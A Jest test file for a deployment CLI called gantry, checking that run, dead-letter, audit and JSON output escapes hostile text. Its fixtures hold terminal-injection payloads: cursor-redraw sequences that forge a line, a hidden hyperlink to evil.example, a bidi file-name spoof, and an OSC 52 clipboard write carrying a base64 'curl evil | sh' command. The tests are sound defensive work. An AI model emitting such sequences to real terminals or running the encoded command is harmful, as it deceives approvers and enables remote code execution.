import { jest } from '@jest/globals';
import { eventsTable } from '../../../cli/audit';
import { deadLettersTable, describeDeadLetter, redriveTable } from '../../../cli/dlq';
import { printJson } from '../../../cli/io';
import { describeRun, runsTable } from '../../../cli/runs';
import { letterOf, reasonOf, subjectOf } from '../../../shared/dlq/letters';
import { resolvePlan } from '../../../shared/pipelines/plan';
import type { RunRecord } from '../../../shared/runs/model';
import { ledgerChain } from '../../support/audit-export';
import { planRequest, sourceEvent } from '../../support/plans';

/**
 * What a change's author, its tests and its build wrote reaches an approver's terminal as text:
 * it cannot redraw the lines `gantry runs show` prints above it, set the clipboard or hide a link.
 */
const ESC = '\u001b';
const BEL = '\u0007';
const REDRAW = `${ESC}[2A${ESC}[2K  change       "fix typo" by alice`;
const OSC8 = `${ESC}]8;;https://evil.example/approve${BEL}the docs${ESC}]8;;${BEL}`;
const OSC52 = `${ESC}]52;c;Y3VybCBldmlsIHwgc2g=${BEL}`;
const HOSTILE = `${REDRAW}\r\n  environment  staging ${OSC8} ${OSC52} txt.\u202eexe`;

/** Anything but a line break that a terminal would act on rather than show. */
// biome-ignore lint/suspicious/noControlCharactersInRegex: control characters are what it finds.
const ACTS = /[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u2028\u2029\u202a-\u202e\u2066-\u2069]/;

function hostileRun(text: string): RunRecord {
  const plan = resolvePlan(planRequest(sourceEvent()));
  const at = '2026-11-23T10:00:00.000Z';
  return {
    kind: 'run',
    runId: plan.runId,
    pipeline: plan.pipeline,
    trigger: 'push',
    repository: 'acme/widgets',
    commit: plan.commit,
    branch: `develop${text}`,
    environment: 'dev',
    lane: 'widgets/dev',
    status: 'FAILED',
    createdAt: at,
    updatedAt: at,
    endedAt: at,
    executionArn: plan.executionArn,
    plan: {
      ...plan,
      change: { ...plan.change, message: text, authorName: `Alice${text}`, authorEmail: `a${text}@example.com` },
    },
    stages: { gates: { status: 'failed', startedAt: at, endedAt: at, summary: text } },
    build: { id: 'b-1', status: 'SUCCEEDED', logGroup: '/gantry/build', logStream: 's' },
    gates: { passed: false, reasons: [`1 test failed: ${text}`], metrics: {} },
    approval: {
      taskToken: 't',
      requestedAt: at,
      deadline: at,
      decisions: { bob: { identity: 'bob', principal: 'p', decision: 'approve', reason: text, at } },
    },
    failure: { stage: 'gates', error: 'Gantry.GatesFailed', reason: text },
  };
}

const CLEAN = 'fix typo';

describe('gantry runs show', () => {
  const previous = process.env.NO_COLOR;
  beforeAll(() => {
    process.env.NO_COLOR = '1';
  });
  afterAll(() => {
    if (previous === undefined) delete process.env.NO_COLOR;
    else process.env.NO_COLOR = previous;
  });

  it('escapes control sequences, line breaks and bidi overrides in the change, reasons and build log', () => {
    const shown = describeRun(hostileRun(HOSTILE), [`npm test${REDRAW}\r${OSC52}`]);
    expect(shown).not.toMatch(ACTS);
    // As many lines as a run with harmless words: none invented, none overwritten.
    expect(shown.split('\n')).toHaveLength(describeRun(hostileRun(CLEAN), ['npm test']).split('\n').length);
    const visible = String.raw`\x1b[2A\x1b[2K  change       "fix typo" by alice\r\n  environment  staging \x1b]8;;https://evil.example/approve\x07the docs\x1b]8;;\x07 \x1b]52;c;Y3VybCBldmlsIHwgc2g=\x07 txt.\u202eexe`;
    expect(shown).toContain(`  change       "${visible}" by Alice${visible} <a${visible}@example.com>`);
    expect(shown).toContain(`Failed in gates: ${visible}`);
    expect(shown).toContain(`  - 1 test failed: ${visible}`);
    expect(shown).toContain(`  - bob approved at 2026-11-23 10:00:00Z: "${visible}" (p)`);
    expect(shown).toContain(String.raw`  npm test\x1b[2A\x1b[2K  change       "fix typo" by alice\r\x1b]52;c;`);
  });

  it('says who cancelled a run, an operator or the run that superseded it, without calling either the other', () => {
    const cancelled = (by: string) =>
      describeRun({ ...hostileRun(CLEAN), status: 'CANCELLED', failure: undefined, cancelledBy: by }, []);
    expect(cancelled('olga')).toContain('\nCancelled by olga');
    expect(cancelled('olga')).not.toMatch(/superseded/);
    expect(cancelled(`run-2${REDRAW}`)).toContain(String.raw`Cancelled by run-2\x1b[2A`);
  });

  it("says an operator's cancel once, with the reason it kept as the run's failure", () => {
    const shown = describeRun(
      {
        ...hostileRun(CLEAN),
        status: 'CANCELLED',
        cancelledBy: 'olga',
        failure: { stage: 'cancelled', error: 'Gantry.Cancelled', reason: `cancelled by olga: wrong build${REDRAW}` },
      },
      [],
    );
    expect(shown).toContain(String.raw`Cancelled by olga: wrong build\x1b[2A`);
    expect(shown).not.toMatch(/Failed in|\nCancelled by olga\n/);
  });

  it('keeps a build log event’s own line breaks, each line under the log’s heading', () => {
    const shown = describeRun(hostileRun(CLEAN), ['> jest\n\tPASS test/a.test.ts\n']);
    expect(shown).toMatch(/Build log \(last 1 lines, \/gantry\/build\):\n {2}> jest\n {10}PASS test\/a\.test\.ts$/);
  });
});

describe('gantry runs list', () => {
  it('escapes a branch name that would move the cursor', () => {
    const shown = runsTable([hostileRun(HOSTILE)]);
    expect(shown).not.toMatch(ACTS);
    expect(shown.split('\n')).toHaveLength(2);
  });
});

describe('gantry dlq', () => {
  /** An event EventBridge could not deliver: its detail is a push's, its error the target's. */
  function deadLetter() {
    const event = { source: 'gantry.webhooks', 'detail-type': 'Source Event', detail: { branch: `main${HOSTILE}` } };
    const letter = letterOf({
      queue: 'triggers',
      messageId: 'm-1',
      receipt: 'r-1',
      body: JSON.stringify(event),
      attributes: {
        RULE_ARN: 'arn:aws:events:eu-west-1:000000000000:rule/gantry/start-run',
        TARGET_ARN: 'arn:aws:states:eu-west-1:000000000000:stateMachine:gantry-pipeline',
        ERROR_CODE: 'SDK_CLIENT_ERROR',
        ERROR_MESSAGE: `bad branch ${HOSTILE}`,
      },
      sentAt: new Date('2026-12-07T10:00:01Z'),
      receiveCount: 1,
    });
    return {
      queue: 'triggers' as const,
      messageId: 'm-1',
      letter,
      subject: subjectOf(letter),
      reason: reasonOf(letter),
      sentAt: new Date('2026-12-07T10:00:01Z'),
      expiresAt: new Date('2026-12-21T10:00:01Z'),
      receiveCount: 1,
    };
  }
  const now = new Date('2026-12-07T11:00:01Z');

  it('`list` and `show` escape what the letter quotes, and what JSON leaves raw in the event', () => {
    const view = deadLetter();
    const table = deadLettersTable([view], now);
    expect(table).not.toMatch(ACTS);
    expect(table.split('\n')).toHaveLength(2);
    const shown = describeDeadLetter(view, now);
    expect(shown).not.toMatch(ACTS);
    expect(shown).toContain(String.raw`  reason       SDK_CLIENT_ERROR: bad branch \x1b[2A\x1b[2K`);
    // JSON escapes the C0 controls itself; the bidi override it leaves is escaped as JSON would.
    expect(shown).toContain(String.raw`\u001b]52;c;Y3VybCBldmlsIHwgc2g=\u0007 txt.\u202eexe"}}`);
  });

  it('`redrive` escapes the detail of a refusal', () => {
    const shown = redriveTable([
      { queue: 'triggers', messageId: 'm-1', subject: 's', status: 'kept', code: 'foreign', detail: HOSTILE },
    ]);
    expect(shown).not.toMatch(ACTS);
  });
});

describe('gantry audit query', () => {
  it('escapes an actor and a repository that would move the cursor', () => {
    const [event] = ledgerChain('acme/widgets', 1, () => 0);
    if (event === undefined) throw new Error('a chain of one event');
    const hostile = {
      ...event,
      actor: { ...event.actor, id: `octocat${HOSTILE}` },
      subject: { ...event.subject, repository: `acme/widgets${HOSTILE}` },
    };
    const shown = eventsTable([hostile]);
    expect(shown).not.toMatch(ACTS);
    expect(shown.split('\n')).toHaveLength(2);
    expect(shown).toContain(String.raw`octocat\x1b[2A\x1b[2K`);
  });
});

describe('--json output and refusals', () => {
  it('writes --json output that parses to what was stored, with nothing in it a terminal would act on', () => {
    const written: string[] = [];
    const spy = jest.spyOn(process.stdout, 'write').mockImplementation((chunk) => {
      written.push(String(chunk));
      return true;
    });
    const event = { details: { commits: [{ message: HOSTILE }] } };
    try {
      printJson(event);
    } finally {
      spy.mockRestore();
    }
    const out = written.join('');
    expect(out.replace(/\n/g, '')).not.toMatch(ACTS);
    expect(JSON.parse(out)).toEqual(event);
  });
});
